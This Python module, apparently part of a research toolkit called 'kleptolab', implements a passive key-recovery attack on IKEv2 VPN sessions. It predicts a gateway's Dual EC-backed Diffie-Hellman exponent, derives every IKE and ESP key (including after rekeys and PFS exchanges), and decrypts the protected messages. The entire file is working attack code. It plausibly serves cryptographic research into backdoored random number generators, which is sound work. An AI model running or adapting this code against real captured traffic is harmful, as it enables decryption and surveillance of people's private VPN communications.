"""The passive IKEv2 attack on one IKE SA: g^ir from the predicted exponent, then every key.

IKEv2's keys do not depend on the authentication method (RFC 7296 §2.14), so
once the responder's DH exponent is predicted the whole SA falls: SKEYSEED,
SK_*, every SK payload, every child SA (IKE_AUTH and CREATE_CHILD_SA, with
PFS exponents found by the same walk).

IKE SA rekeys (RFC 7296 §2.18) are followed: a CREATE_CHILD_SA whose SA
payload carries an IKE proposal yields an :class:`Ikev2Handshake` for the new
SA with its ``parent`` set; its g^ir comes from whichever peer's KE a walk
predicts, and SKEYSEED = prf(SK_d (old), g^ir (new) | Ni | Nr).
"""

from __future__ import annotations

from dataclasses import dataclass, field

from kleptolab.attack.errors import AttackFailure
from kleptolab.attack.outputs import EspSaRow, Ikev2Row
from kleptolab.attack.prng_walk import DhMatch, PrngWalker
from kleptolab.capture import IkePacket
from kleptolab.crypto.algorithms import Encr, Integ, Prf
from kleptolab.ike.dh import DhGroup, group_by_number
from kleptolab.ike.v2.constants import (
    ExchangeType,
    ProtocolId,
    TransformType,
    encr_from_id,
    integ_from_id,
    prf_from_id,
)
from kleptolab.ike.v2.keys import (
    IkeSaKeys,
    derive_child_keys,
    derive_ike_keys,
    ike_keys_from_skeyseed,
    rekeyed_skeyseed,
)
from kleptolab.ike.v2.payloads import Ikev2Message, KePayload, NoncePayload, parse_message
from kleptolab.ike.v2.proposals import Proposal, SaPayload
from kleptolab.ike.v2.sk import SkKeys, unprotect
from kleptolab.ike.wire import WireError

__all__ = ["AttackFailure", "Ikev2Handshake", "Ikev2Outcome", "RekeyParent", "attack_ikev2", "parse_ikev2"]


@dataclass(frozen=True)
class Suite:
    """A negotiated transform set (IKE or ESP)."""

    encr: Encr
    key_size: int
    integ: Integ | None
    prf: Prf | None
    group: int | None

    def describe(self) -> dict[str, object]:
        return {
            "encr": self.encr.name,
            "key_bits": 8 * self.key_size,
            "integ": None if self.integ is None else self.integ.name,
            "prf": None if self.prf is None else self.prf.name,
            "dh_group": self.group,
        }


def suite_of(proposal: Proposal) -> Suite:
    """The single transform of each type a responder's proposal carries."""

    def one(kind: TransformType) -> tuple[int, int | None] | None:
        found = proposal.of_type(kind)
        return (found[0].id, found[0].key_length) if found else None

    encr = one(TransformType.ENCR)
    if encr is None:
        raise AttackFailure("the chosen proposal has no encryption transform")
    cipher = encr_from_id(encr[0])
    key_size = (encr[1] // 8) if encr[1] else cipher.key_sizes[0]
    integ, prf, dh = one(TransformType.INTEG), one(TransformType.PRF), one(TransformType.DH)
    return Suite(
        cipher,
        key_size,
        integ_from_id(integ[0]) if integ and integ[0] else None,
        prf_from_id(prf[0]) if prf else None,
        dh[0] if dh and dh[0] else None,
    )


@dataclass(frozen=True)
class RekeyParent:
    """What a rekeyed IKE SA inherits: the old SA's id, PRF and SK_d, and the rekey's frame."""

    sid: str
    prf: Prf
    sk_d: bytes
    frame: int


@dataclass
class Ikev2Handshake:
    """The cleartext facts of one IKEv2 SA (IKE_SA_INIT, or the CREATE_CHILD_SA that rekeyed
    ``parent``) and its later messages."""

    sid: str
    spi_i: bytes
    spi_r: bytes
    initiator: str
    responder: str
    suite: Suite
    group: DhGroup
    ke_i: bytes
    ke_r: bytes
    ni: bytes
    nr: bytes
    nr_order: int
    later: list[IkePacket]
    parent: RekeyParent | None = None
    gateway_addr: str = ""

    @property
    def gateway(self) -> str:
        """The Dual EC device's address: the responder of the first IKE_SA_INIT of the chain."""
        return self.gateway_addr or self.responder


def _payload(message: Ikev2Message, kind: type) -> object | None:
    found = message.find(kind)
    return found[0] if found else None


def parse_ikev2(sid: str, packets: list[IkePacket]) -> Ikev2Handshake:
    """Find IKE_SA_INIT request and response; ``AttackFailure`` when they are missing."""
    request = response = None
    for p in packets:
        if p.header.exchange_type != ExchangeType.IKE_SA_INIT:
            continue
        try:
            msg = parse_message(p.message)
        except WireError:
            continue
        if not p.header.is_response and request is None:
            request = (p, msg)
        elif p.header.is_response and _payload(msg, KePayload) is not None:
            response = (p, msg)
    if request is None or response is None:
        raise AttackFailure("IKE_SA_INIT request/response with KE and nonces not in the capture")
    (req_p, req), (resp_p, resp) = request, response
    sa, ke_i, ke_r = _payload(resp, SaPayload), _payload(req, KePayload), _payload(resp, KePayload)
    ni, nr = _payload(req, NoncePayload), _payload(resp, NoncePayload)
    if not (isinstance(sa, SaPayload) and isinstance(ke_i, KePayload) and isinstance(ke_r, KePayload)
            and isinstance(ni, NoncePayload) and isinstance(nr, NoncePayload)):
        raise AttackFailure("IKE_SA_INIT lacks SA, KE or Nonce payloads")
    try:
        suite = suite_of(sa.proposals[0])
        group = group_by_number(ke_r.group)
    except ValueError as exc:
        raise AttackFailure(str(exc)) from None
    return Ikev2Handshake(
        sid, resp_p.spi_i, resp_p.spi_r, req_p.datagram.src, req_p.datagram.dst, suite, group,
        ke_i.data, ke_r.data, ni.nonce, nr.nonce, resp_p.datagram.index,
        [p for p in packets if p.header.exchange_type != ExchangeType.IKE_SA_INIT],
    )


@dataclass
class Ikev2Outcome:
    """What the attack recovered for one IKEv2 SA."""

    dh: DhMatch | None = None
    keys: IkeSaKeys | None = None
    row: Ikev2Row | None = None
    esp: list[EspSaRow] = field(default_factory=list)
    decrypted: int = 0
    undecrypted: int = 0
    retransmitted: int = 0
    children: list[dict[str, object]] = field(default_factory=list)
    child_nonces: list[tuple[bytes, int]] = field(default_factory=list)
    rekeys: list[Ikev2Handshake] = field(default_factory=list)
    failure: str | None = None


def _child(
    h: Ikev2Handshake, keys: IkeSaKeys, req: Ikev2Message, resp: Ikev2Message,
    ni: bytes, nr: bytes, shared: bytes | None, peers: tuple[str, str] | None = None,
) -> tuple[list[EspSaRow], dict[str, object]] | None:
    """ESP rows of the child SA an exchange made; ``peers``: (its initiator, its responder)."""
    sa_r, sa_i = _payload(resp, SaPayload), _payload(req, SaPayload)
    if not isinstance(sa_r, SaPayload) or not isinstance(sa_i, SaPayload):
        return None
    chosen = sa_r.proposals[0]
    if chosen.protocol != ProtocolId.ESP:
        return None
    offered = next((p for p in sa_i.proposals if p.number == chosen.number), sa_i.proposals[0])
    suite = suite_of(chosen)
    assert h.suite.prf is not None
    km = derive_child_keys(h.suite.prf, keys.sk_d, suite.encr, suite.key_size, suite.integ, ni, nr, shared)
    if suite.integ is None:
        raise AttackFailure("AEAD ESP is not supported by the passive ESP decryptor yet")
    ini, res = peers or (h.initiator, h.responder)
    esp = [
        EspSaRow(ini, res, chosen.spi, suite.encr, km.encr_i, suite.integ, km.integ_i),
        EspSaRow(res, ini, offered.spi, suite.encr, km.encr_r, suite.integ, km.integ_r),
    ]
    info = {"suite": suite.describe(), "spi_i_to_r": chosen.spi.hex(), "spi_r_to_i": offered.spi.hex(),
            "pfs": shared is not None}
    return esp, info


def attack_ikev2(h: Ikev2Handshake, walker: PrngWalker, remember: bool = True) -> Ikev2Outcome:
    """Predict the responder's exponent, derive the SA's keys, decrypt what follows."""
    out = Ikev2Outcome()
    device, other = (h.ke_i, h.ke_r) if h.initiator == h.gateway != h.responder else (h.ke_r, h.ke_i)
    out.dh = walker.find_dh(h.group, device, prefer=h.sid)  # the gateway may have initiated a rekey
    if out.dh is None:
        out.failure = "no walked PRNG output gives the responder's KE"
        return out
    shared = h.group.shared_secret(out.dh.private, other)
    s = h.suite
    if s.prf is None:
        out.failure = "the IKE proposal names no PRF"
        return out
    if h.parent is None:
        out.keys = derive_ike_keys(s.prf, s.encr, s.key_size, s.integ, h.ni, h.nr, shared, h.spi_i, h.spi_r)
    else:  # RFC 7296 §2.18
        seed = rekeyed_skeyseed(h.parent.prf, h.parent.sk_d, shared, h.ni, h.nr)
        out.keys = ike_keys_from_skeyseed(s.prf, seed, s.encr, s.key_size, s.integ, h.ni, h.nr, h.spi_i, h.spi_r)
    k = out.keys
    out.row = Ikev2Row(h.spi_i, h.spi_r, k.sk_ei, k.sk_er, s.encr, s.key_size, k.sk_ai, k.sk_ar, s.integ)
    sk = SkKeys(s.encr, s.integ, k.sk_ei, k.sk_er, k.sk_ai, k.sk_ar)
    # an exchange is (message ID, whether the original initiator asked): each side numbers its own requests
    opened: dict[tuple[int, bool, bool], tuple[Ikev2Message, IkePacket]] = {}
    copies: set[bytes] = set()
    for p in h.later:
        if p.message in copies:  # a retransmitted copy (RFC 7296 §2.1): counted apart
            out.retransmitted += 1
            continue
        copies.add(p.message)
        try:
            msg = unprotect(p.message, sk)
        except (ValueError, WireError):
            out.undecrypted += 1
            continue
        out.decrypted += 1
        asked_by_initiator = p.header.is_initiator != p.header.is_response
        opened.setdefault((msg.message_id, asked_by_initiator, p.header.is_response), (msg, p))
    for (mid, by_i, is_resp), (resp, resp_p) in sorted(opened.items(), key=lambda kv: kv[1][1].datagram.index):
        sent = opened.get((mid, by_i, False))
        if not is_resp or sent is None:
            continue
        req, req_p = sent
        peers = (req_p.datagram.src, req_p.datagram.dst)
        if resp.exchange_type == ExchangeType.IKE_AUTH:
            made = _child(h, k, req, resp, h.ni, h.nr, None, peers)
        elif resp.exchange_type == ExchangeType.CREATE_CHILD_SA and _rekeys_ike(resp):
            made = None
            rekeyed = _rekeyed(h, k, req, resp, req_p, resp_p)
            if rekeyed is not None:
                out.rekeys.append(rekeyed)
                ours = rekeyed.ni if req_p.datagram.src == h.gateway else rekeyed.nr
                out.child_nonces.append((ours, rekeyed.nr_order))
        elif resp.exchange_type == ExchangeType.CREATE_CHILD_SA:
            made = _create_child(h, k, req, resp, walker, out, peers, req_p.datagram.src == h.gateway)
        else:
            made = None
        if made is not None:
            out.esp.extend(made[0])
            out.children.append(made[1])
    return out


def _rekeys_ike(resp: Ikev2Message) -> bool:
    sa = _payload(resp, SaPayload)
    return isinstance(sa, SaPayload) and bool(sa.proposals) and sa.proposals[0].protocol == ProtocolId.IKE


def _rekeyed(
    h: Ikev2Handshake, keys: IkeSaKeys, req: Ikev2Message, resp: Ikev2Message, req_p: IkePacket,
    resp_p: IkePacket,
) -> Ikev2Handshake | None:
    """The new IKE SA a rekeying CREATE_CHILD_SA made (None when payloads are missing)."""
    sa_r, sa_i = _payload(resp, SaPayload), _payload(req, SaPayload)
    ni, nr = _payload(req, NoncePayload), _payload(resp, NoncePayload)
    ke_i, ke_r = _payload(req, KePayload), _payload(resp, KePayload)
    if not (isinstance(sa_r, SaPayload) and isinstance(sa_i, SaPayload) and isinstance(ni, NoncePayload)
            and isinstance(nr, NoncePayload) and isinstance(ke_i, KePayload) and isinstance(ke_r, KePayload)):
        return None
    chosen = sa_r.proposals[0]
    offered = next((p for p in sa_i.proposals if p.number == chosen.number), sa_i.proposals[0])
    if h.suite.prf is None or len(chosen.spi) != 8 or len(offered.spi) != 8:
        return None
    try:
        suite, group = suite_of(chosen), group_by_number(ke_r.group)
    except ValueError:
        return None
    sid = f"{offered.spi.hex()}:{chosen.spi.hex()}"
    return Ikev2Handshake(
        sid, offered.spi, chosen.spi, req_p.datagram.src, req_p.datagram.dst, suite, group, ke_i.data,
        ke_r.data, ni.nonce, nr.nonce, resp_p.datagram.index, [],
        RekeyParent(h.sid, h.suite.prf, keys.sk_d, resp_p.datagram.index), h.gateway,
    )


def _create_child(
    h: Ikev2Handshake, keys: IkeSaKeys, req: Ikev2Message, resp: Ikev2Message,
    walker: PrngWalker, out: Ikev2Outcome, peers: tuple[str, str] | None = None, by_gateway: bool = False,
) -> tuple[list[EspSaRow], dict[str, object]] | None:
    ni, nr = _payload(req, NoncePayload), _payload(resp, NoncePayload)
    if not isinstance(ni, NoncePayload) or not isinstance(nr, NoncePayload):
        return None
    out.child_nonces.append(((ni if by_gateway else nr).nonce, h.nr_order))
    ke_i, ke_r = _payload(req, KePayload), _payload(resp, KePayload)
    shared = None
    info_dh: dict[str, object] = {}
    if isinstance(ke_i, KePayload) and isinstance(ke_r, KePayload):
        group = group_by_number(ke_r.group)
        device, peer = (ke_i, ke_r) if by_gateway else (ke_r, ke_i)
        match = walker.find_dh(group, device.data, prefer=h.sid)
        if match is None:
            out.children.append({"failure": "PFS exponent not predicted by any walked state",
                                 "nr": nr.nonce.hex()})
            return None
        shared = group.shared_secret(match.private, peer.data)
        info_dh = {"pfs_draw": match.draw.describe()}
    made = _child(h, keys, req, resp, ni.nonce, nr.nonce, shared, peers)
    if made is not None:
        made[1].update(info_dh)
    return made
